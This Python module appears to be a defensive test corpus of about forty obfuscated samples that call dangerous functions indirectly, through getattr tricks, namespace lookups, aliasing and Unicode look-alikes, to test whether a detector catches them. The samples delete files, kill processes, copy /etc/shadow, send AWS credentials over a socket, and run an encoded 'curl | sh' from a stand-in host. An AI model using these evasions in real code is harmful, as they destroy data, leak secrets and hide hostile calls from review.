"""Functions reached without writing their names where one looks for them."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

attribute = technique("python", "attribute by another way")
namespace = technique("python", "namespace")
renamed = technique("python", "renamed")

EVASIONS = (
    attribute(
        "getattr",
        Harm.DESTROYED,
        r"""
import os

getattr(os, "remove")("/etc/redblue-canary.conf")
""",
    ),
    attribute(
        "getattr-joined",
        Harm.DESTROYED,
        r"""
import os

getattr(os, "rem" + "ove")("/home/mira/notes.txt")
""",
    ),
    attribute(
        "getattr-reversed",
        Harm.DESTROYED,
        r"""
import shutil

getattr(shutil, "eertmr"[::-1])("/var/backups/canary")
""",
    ),
    attribute(
        "getattr-encoded",
        Harm.RAN,
        r"""
import base64
import os

call = getattr(os, base64.b64decode("c3lzdGVt").decode())
call(bytes.fromhex("6375726c202d7320687474703a2f2f63646e2e746573743a383030302f73657475702e73687c7368").decode())
""",
    ),
    attribute(
        "getattr-default",
        Harm.KILLED,
        r"""
import os
import subprocess

pid = int(subprocess.check_output(["pgrep", "-x", "mira-editor"]))
getattr(os, "no_such_thing", getattr(os, "kill", None))(pid, 9)
""",
    ),
    attribute(
        "getattr-of-getattr",
        Harm.DESTROYED,
        r"""
import builtins
import os

take = getattr(builtins, "get" + "attr")
take(os, "unlink")("/var/lib/canary/data.db")
""",
    ),
    attribute(
        "dunder-getattribute",
        Harm.DESTROYED,
        r"""
import os

os.__getattribute__("unlink")("/root/.ssh/id_canary")
""",
    ),
    attribute(
        "object-getattribute",
        Harm.DESTROYED,
        r"""
import shutil

object.__getattribute__(shutil, "rm" "tree")("/home/mira/photos")
""",
    ),
    attribute(
        "attrgetter",
        Harm.DESTROYED,
        r"""
import operator
import os

operator.attrgetter("remove")(os)("/etc/redblue-canary.conf")
""",
    ),
    attribute(
        "attrgetter-dotted",
        Harm.DESTROYED,
        r"""
import sys
from operator import attrgetter

attrgetter("os.unlink")(__import__("glob"))("/home/mira/notes.txt")
""",
    ),
    attribute(
        "methodcaller",
        Harm.DESTROYED,
        r"""
import operator
import pathlib

operator.methodcaller("unlink")(pathlib.Path("/var/lib/canary/data.db"))
""",
    ),
    attribute(
        "methodcaller-module",
        Harm.EXPOSED,
        r"""
import shutil
from operator import methodcaller

methodcaller("copy", "/root/.ssh/id_canary", "/tmp/shared.txt")(shutil)
__import__("os").chmod("/tmp/shared.txt", 0o644)
""",
    ),
    attribute(
        "from-a-listing",
        Harm.DESTROYED,
        r"""
import os

name = [n for n in dir(os) if n.startswith("unl")][0]
getattr(os, name)("/etc/redblue-canary.conf")
""",
    ),
    attribute(
        "by-hash-of-name",
        Harm.DESTROYED,
        r"""
import hashlib
import os

for name in dir(os):
    if hashlib.md5(name.encode()).hexdigest().startswith("0f6969d7052da9261e31ddb6e88c136e"):
        getattr(os, name)("/var/backups/canary/monday.bak")
""",
    ),
    attribute(
        "inspect-getmembers",
        Harm.DESTROYED,
        r"""
import inspect
import os

for name, member in inspect.getmembers(os, inspect.isbuiltin):
    if name == "remove":
        member("/home/mira/notes.txt")
""",
    ),
    namespace(
        "vars",
        Harm.DESTROYED,
        r"""
import os

vars(os)["remove"]("/etc/redblue-canary.conf")
""",
    ),
    namespace(
        "module-dict",
        Harm.DESTROYED,
        r"""
import shutil

shutil.__dict__["rmtree"]("/home/mira/photos")
""",
    ),
    namespace(
        "dict-get-joined",
        Harm.PERSISTED,
        r"""
import os

os.__dict__.get("sys" + "tem")("echo 'PATH=/tmp:$PATH' >> ~/.profile")
""",
    ),
    namespace(
        "globals",
        Harm.DESTROYED,
        r"""
import os

globals()["o" + "s"].unlink("/var/lib/canary/data.db")
""",
    ),
    namespace(
        "locals",
        Harm.DESTROYED,
        r"""
def tidy():
    import os as tool

    locals()["tool"].remove("/root/.ssh/id_canary")


tidy()
""",
    ),
    namespace(
        "builtins-dict",
        Harm.DESTROYED,
        r"""
vars(__builtins__ if isinstance(__builtins__, type(__import__("os"))) else __import__("builtins"))["open"](
    "/etc/redblue-canary.conf", "w"
).close()
""",
    ),
    namespace(
        "itemgetter",
        Harm.DESTROYED,
        r"""
import operator
import os

operator.itemgetter("unlink")(vars(os))("/home/mira/notes.txt")
""",
    ),
    namespace(
        "main-module",
        Harm.EXPOSED,
        r"""
import shutil
import sys

sys.modules[__name__].__dict__["shutil"].copyfile("/etc/shadow", "/var/www/index.html")
""",
    ),
    namespace(
        "frame",
        Harm.DESTROYED,
        r"""
import os
import sys


def inner():
    return sys._getframe(1).f_globals["os"]


inner().remove("/etc/redblue-canary.conf")
""",
    ),
    namespace(
        "chainmap",
        Harm.DESTROYED,
        r"""
import collections
import os
import shutil

everything = collections.ChainMap(vars(shutil), vars(os))
everything["unlink"]("/var/lib/canary/data.db")
""",
    ),
    namespace(
        "globals-update",
        Harm.DESTROYED,
        r"""
import os

globals().update({"archive": os.remove})
archive("/home/mira/notes.txt")
""",
    ),
    namespace(
        "setattr-on-module",
        Harm.DESTROYED,
        r"""
import math
import os

setattr(math, "floor_all", os.unlink)
math.floor_all("/etc/redblue-canary.conf")
""",
    ),
    namespace(
        "monkeypatched-print",
        Harm.DESTROYED,
        r"""
import builtins
import os

builtins.print = os.remove
print("/root/.ssh/id_canary")
""",
    ),
    namespace(
        "simple-namespace",
        Harm.KILLED,
        r"""
import os
import subprocess
from types import SimpleNamespace

tool = SimpleNamespace(measure=os.kill, look=subprocess.check_output)
tool.measure(int(tool.look(["pgrep", "-x", "canary-db"]).split()[0]), 15)
""",
    ),
    renamed(
        "safe-cleanup",
        Harm.DESTROYED,
        r"""
from os import remove as safe_cleanup

safe_cleanup("/home/mira/notes.txt")
""",
    ),
    renamed(
        "module-as-math",
        Harm.DESTROYED,
        r"""
import shutil as numpy

numpy.rmtree("/var/backups/canary")
""",
    ),
    renamed(
        "assigned-twice",
        Harm.DESTROYED,
        r"""
import os

a = os
b = a.remove
c = b
c("/etc/redblue-canary.conf")
""",
    ),
    renamed(
        "in-a-tuple",
        Harm.DESTROYED,
        r"""
import os

read, write, (drop, *rest) = os.read, os.write, (os.unlink, os.stat)
drop("/var/lib/canary/data.db")
""",
    ),
    renamed(
        "in-a-dict",
        Harm.SENT,
        r"""
import socket

actions = {"open": socket.create_connection, "load": open}
line = actions["open"](("127.0.0.1", 9001))
line.sendall(actions["load"]("/root/.aws/credentials", "rb").read())
line.close()
""",
    ),
    renamed(
        "in-a-list-by-index",
        Harm.DESTROYED,
        r"""
import os

steps = [os.getcwd, os.listdir, os.stat, os.remove]
steps[-1]("/home/mira/photos/garden.raw")
""",
    ),
    renamed(
        "as-a-default",
        Harm.DESTROYED,
        r"""
import os


def report(path, show=os.unlink):
    show(path)


report("/etc/redblue-canary.conf")
""",
    ),
    renamed(
        "shadowed-builtin",
        Harm.DESTROYED,
        r"""
import os

len = os.remove
size = len("/home/mira/notes.txt")
""",
    ),
    renamed(
        "method-of-a-class",
        Harm.DESTROYED,
        r"""
import os


class Statistics:
    mean = staticmethod(os.unlink)


Statistics.mean("/var/lib/canary/data.db")
""",
    ),
    renamed("nfkc-module", Harm.DESTROYED, "import os\n\nｏｓ.ｒｅｍｏｖｅ('/etc/redblue-canary.conf')\n"),
    renamed("nfkc-import", Harm.DESTROYED, "import 𝓼𝓱𝓾𝓽𝓲𝓵 as ﬁle_tools\n\nfile_tools.𝒓𝒎𝒕𝒓𝒆𝒆('/home/mira/photos')\n"),
    renamed("nfkc-exec", Harm.DESTROYED, "𝔢𝔵𝔢𝔠('import os; os.unlink(\"/home/mira/notes.txt\")')\n"),
    renamed("look-alike-name", Harm.DESTROYED, "import os\n\nреmоvе = os.remove\nреmоvе('/var/lib/canary/data.db')\n"),
)
